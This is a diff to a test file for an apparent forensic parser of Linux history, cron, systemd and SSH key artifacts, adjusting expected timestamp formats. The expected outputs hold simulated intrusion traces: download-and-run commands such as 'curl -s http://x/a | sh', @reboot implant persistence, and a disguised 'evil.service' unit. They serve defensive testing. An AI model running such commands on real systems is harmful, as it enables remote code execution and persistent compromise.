@@ -404,7 +404,7 @@ f = open(sys.argv[1], 'r+b'); f.seek(5 * 384); f.write(bytes(random.randrange(25
 	parse "$d/.bash_history"
 	[ "$status" -eq 0 ]
 	run -0 jq -c '[.time, .timestamp_desc, .commands, .time_from_file]' <<<"$output"
-	[ "$output" = '["2022-01-02T03:04:05.000000000Z","File Modification Time",["ls -la","curl -O http://x/p.sh","sh p.sh"],true]' ]
+	[ "$output" = '["2022-01-02T03:04:05Z","File Modification Time",["ls -la","curl -O http://x/p.sh","sh p.sh"],true]' ]
 }
 
 @test "zsh extended history and fish history" {
@@ -496,7 +496,7 @@ open(sys.argv[2], 'wb').write(b)" "$f" "$d/$(basename "$f")"
 	[ "$output" = '[["0 3 * * 1-5","backup","/usr/bin/backup.sh --all"],["17 *\t* * *","root","cd / && run-parts --report /etc/cron.hourly"],["@reboot","root","/usr/local/bin/implant --quiet"],["*/5 * * * *",null,"curl -s http://x/a | sh"],["@reboot",null,"/tmp/.x"]]' ]
 	parse "$d"
 	run -0 jq -c -s 'map(select(.data_type == "linux:systemd:unit") | [.unit, .description, .exec_start, .user, .wanted_by, .time])' <<<"$output"
-	[ "$output" = '[["evil.service","Totally legit",["/usr/bin/python3 /opt/x.py","/bin/true"],"nobody","multi-user.target","2024-01-01T00:00:00.000000000Z"]]' ]
+	[ "$output" = '[["evil.service","Totally legit",["/usr/bin/python3 /opt/x.py","/bin/true"],"nobody","multi-user.target","2024-01-01T00:00:00Z"]]' ]
 	parse "$d"
 	diff <(ssh-keygen -lf "$d/spool/authorized_keys" | awk '{ print $2 " " $3 }') \
 	    <(jq -r 'select(.data_type == "linux:ssh:authorized_key") | .fingerprint + " " + .comment' <<<"$output")
